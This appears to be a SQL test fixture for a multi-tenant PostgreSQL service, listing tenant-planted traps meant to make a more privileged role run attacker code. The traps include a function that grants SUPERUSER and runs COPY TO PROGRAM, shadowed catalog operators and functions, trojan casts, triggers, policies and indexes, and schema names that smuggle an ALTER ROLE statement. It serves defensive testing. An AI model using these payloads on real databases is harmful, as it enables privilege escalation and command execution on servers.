-- Everything a tenant may plant in its own database so that somebody with more rights runs it.
-- Run as a binding, one payload at a time, with {login}, {group}, {reader}, {neighbour}, {root} and {file} filled in.
-- A payload succeeds, for it is the tenant's database: what matters is that nobody else ever runs it. The server itself stops what is refused.

-- payload: the loot, taken with the rights of whoever runs it
CREATE TABLE public.caught (who name, acting name, at text);
GRANT ALL ON public.caught TO PUBLIC;
CREATE FUNCTION public.grab(at text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
  IF session_user::text IN ('{login}', '{reader}') THEN RETURN true; END IF;
  BEGIN INSERT INTO public.caught VALUES (session_user, current_user, at); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN SET ROLE NONE; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN GRANT pg_execute_server_program, pg_read_server_files, pg_write_server_files, pg_read_all_data TO "{login}"; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN GRANT "{root}" TO "{login}"; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN GRANT "{neighbour}" TO "{login}"; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN ALTER ROLE "{login}" SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN ALTER ROLE "{login}" CREATEROLE CREATEDB; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN CREATE ROLE stolen LOGIN CREATEROLE PASSWORD 'stolen'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch {file}'''; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT 1) TO ''{file}'''; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $$;
GRANT EXECUTE ON FUNCTION public.grab(text) TO PUBLIC;

-- payload: settings of the login that would lead our statements astray
ALTER ROLE CURRENT_USER SET search_path = public, pg_catalog;
-- payload: settings of the session's login
SET ROLE NONE; ALTER ROLE "{login}" SET search_path = public, pg_catalog; ALTER ROLE "{login}" SET row_security = on;
-- refused: settings of the database
ALTER DATABASE "{group}" SET search_path = public, pg_catalog;
-- refused: settings of root
ALTER ROLE "{root}" IN DATABASE "{group}" SET search_path = public, pg_catalog;
-- payload: code loaded at login
ALTER ROLE CURRENT_USER SET local_preload_libraries = 'auto_explain';

-- payload: operators that our catalog queries use
CREATE FUNCTION public.same(name, name) RETURNS boolean LANGUAGE sql AS 'SELECT public.grab(''operator = (name, name)'')';
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = name, FUNCTION = public.same);
CREATE FUNCTION public.same(oid, oid) RETURNS boolean LANGUAGE sql AS 'SELECT public.grab(''operator = (oid, oid)'')';
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.same);
CREATE FUNCTION public.same(name, text) RETURNS boolean LANGUAGE sql AS 'SELECT public.grab(''operator = (name, text)'')';
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
CREATE FUNCTION public.same(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT public.grab(''operator = (text, text)'')';
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.same);
CREATE OPERATOR public.~~ (LEFTARG = text, RIGHTARG = text, FUNCTION = public.same);
CREATE OPERATOR public.!~ (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
CREATE FUNCTION public.join_text(text, bigint) RETURNS text LANGUAGE sql AS 'SELECT public.grab(''operator || (text, bigint)'')::text';
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = bigint, FUNCTION = public.join_text);

-- payload: functions with the names of ours
CREATE FUNCTION public.shobj_description(oid, text) RETURNS text LANGUAGE sql AS 'SELECT public.grab(''shobj_description'')::text';
CREATE FUNCTION public.pg_has_role(oid, text) RETURNS boolean LANGUAGE sql AS 'SELECT public.grab(''pg_has_role'')';
CREATE FUNCTION public.pg_get_userbyid(oid) RETURNS name LANGUAGE sql AS 'SELECT public.grab(''pg_get_userbyid'')::text::name';
CREATE FUNCTION public.current_database() RETURNS name LANGUAGE sql AS 'SELECT public.grab(''current_database'')::text::name';
CREATE FUNCTION public.pg_sleep(double precision) RETURNS void LANGUAGE sql AS 'SELECT public.grab(''pg_sleep'')';
CREATE FUNCTION public.has_schema_privilege(name, oid, text) RETURNS boolean LANGUAGE sql AS 'SELECT public.grab(''has_schema_privilege'')';
-- payload: tables with the names of the catalog's
CREATE VIEW public.pg_roles AS SELECT r.*, public.grab('pg_roles') FROM pg_catalog.pg_roles r;
CREATE VIEW public.pg_shdepend AS SELECT s.*, public.grab('pg_shdepend') FROM pg_catalog.pg_shdepend s;
CREATE VIEW public.pg_namespace AS SELECT n.*, public.grab('pg_namespace') FROM pg_catalog.pg_namespace n;
CREATE VIEW public.pg_database AS SELECT d.*, public.grab('pg_database') FROM pg_catalog.pg_database d;

-- payload: a cast that fires whatever the search_path
CREATE TABLE public.t (v int, w text DEFAULT public.grab('default')::text);
CREATE FUNCTION public.t_text(public.t) RETURNS text LANGUAGE sql AS 'SELECT public.grab(''cast'')::text';
CREATE CAST (public.t AS text) WITH FUNCTION public.t_text(public.t) AS IMPLICIT;
INSERT INTO public.t (v) VALUES (1), (2);
-- payload: policies that bind the owner too
CREATE TABLE public.guarded AS SELECT 1 AS v;
ALTER TABLE public.guarded ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.guarded FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON public.guarded USING (public.grab('policy'));
-- payload: checks, triggers, rules, domains, generated columns, indexes
ALTER TABLE public.t ADD CONSTRAINT c CHECK (public.grab('check'));
CREATE FUNCTION public.pull() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.grab(''trigger''); RETURN NEW; END';
CREATE TRIGGER tr BEFORE INSERT OR UPDATE OR DELETE ON public.t FOR EACH ROW EXECUTE FUNCTION public.pull();
CREATE RULE r AS ON DELETE TO public.guarded DO ALSO SELECT public.grab('rule');
CREATE DOMAIN public.d AS int CHECK (public.grab('domain'));
CREATE FUNCTION public.steady(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS 'BEGIN PERFORM public.grab(''index''); RETURN $1; END';
CREATE INDEX i ON public.t (public.steady(v));
CREATE TABLE public.g (v int, w int GENERATED ALWAYS AS (public.steady(v)) STORED);
-- payload: expressions that a look at the table folds
CREATE TABLE public.parts (v int) PARTITION BY RANGE ((v + public.steady(1)));
CREATE TABLE public.part PARTITION OF public.parts FOR VALUES FROM (0) TO (10);
CREATE TABLE public.rest PARTITION OF public.parts DEFAULT;
CREATE INDEX ON public.parts ((v + public.steady(2)));
CREATE INDEX ON public.t (v) WHERE v > public.steady(3);
CREATE STATISTICS public.st ON (v + public.steady(4)), w FROM public.t;
ALTER TABLE public.parts ENABLE ROW LEVEL SECURITY;
CREATE POLICY folded ON public.parts TO "{neighbour}", "{login}" USING (public.steady(5) = 5);
GRANT ALL ON public.parts, public.part, public.rest TO "{neighbour}", "{login}" WITH GRANT OPTION;
-- payload: the same as the login's own
SET ROLE NONE;
CREATE SCHEMA folded;
CREATE TABLE folded.own_parts (v int) PARTITION BY LIST ((v + public.steady(6)));
CREATE TABLE folded.own_part PARTITION OF folded.own_parts FOR VALUES IN (1);
CREATE TABLE folded.own_rest PARTITION OF folded.own_parts DEFAULT;
CREATE INDEX ON folded.own_parts ((v + public.steady(7)));
CREATE VIEW folded.own_view AS SELECT public.steady(8) AS v;
CREATE POLICY folded ON folded.own_parts TO "{neighbour}" USING (public.steady(9) = 9);
GRANT ALL ON folded.own_parts TO "{neighbour}" WITH GRANT OPTION;
-- payload: views
CREATE VIEW public.seen AS SELECT public.grab('view') AS v;
CREATE MATERIALIZED VIEW public.kept AS SELECT public.grab('materialized view') AS v;
-- refused: an event trigger, for whoever changes anything
CREATE FUNCTION public.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.grab(''event trigger''); END';
CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION public.on_ddl();
-- payload: functions that claim rights for their caller
CREATE FUNCTION public.definer() RETURNS void SECURITY DEFINER LANGUAGE plpgsql AS 'BEGIN SET ROLE NONE; PERFORM public.grab(''definer''); END';

-- payload: names that end a statement of ours
SET ROLE NONE;
CREATE SCHEMA "x""; ALTER ROLE ""{login}"" CREATEROLE; --";
CREATE FUNCTION "x""; ALTER ROLE ""{login}"" CREATEROLE; --".f() RETURNS int LANGUAGE sql AS 'SELECT 1';
REVOKE ALL ON SCHEMA "x""; ALTER ROLE ""{login}"" CREATEROLE; --" FROM CURRENT_USER;
-- payload: things the login owns itself, in a schema that is closed to its group
SET ROLE NONE;
CREATE SCHEMA own;
CREATE TABLE own.t AS SELECT 1 AS v;
CREATE FUNCTION own.f() RETURNS int LANGUAGE sql AS 'SELECT 1';
CREATE TYPE own.e AS ENUM ('a');
CREATE SEQUENCE own.s;
CREATE PUBLICATION pub FOR TABLE own.t;
CREATE OPERATOR own.@@@ (LEFTARG = int, RIGHTARG = int, FUNCTION = int4pl);
GRANT ALL ON TABLE own.t TO "{neighbour}" WITH GRANT OPTION;
REVOKE ALL ON SCHEMA own FROM CURRENT_USER;
SELECT lo_from_bytea(0, 'x');
-- payload: rights given to the neighbour, so that it cannot be removed
GRANT ALL ON TABLE public.t TO "{neighbour}";
CREATE POLICY for_neighbour ON public.guarded TO "{neighbour}" USING (true);
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO "{neighbour}";
SET ROLE NONE;
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO "{neighbour}";
-- payload: rights given to root and to everybody
GRANT ALL ON ALL TABLES IN SCHEMA public TO "{root}";
GRANT ALL ON SCHEMA public TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO PUBLIC;
-- refused: a prepared transaction that keeps its locks
BEGIN; LOCK TABLE public.t; PREPARE TRANSACTION 'kept';
-- payload: the lock that a broker may wait for
SELECT pg_advisory_lock(n) FROM generate_series(1, 10) n;
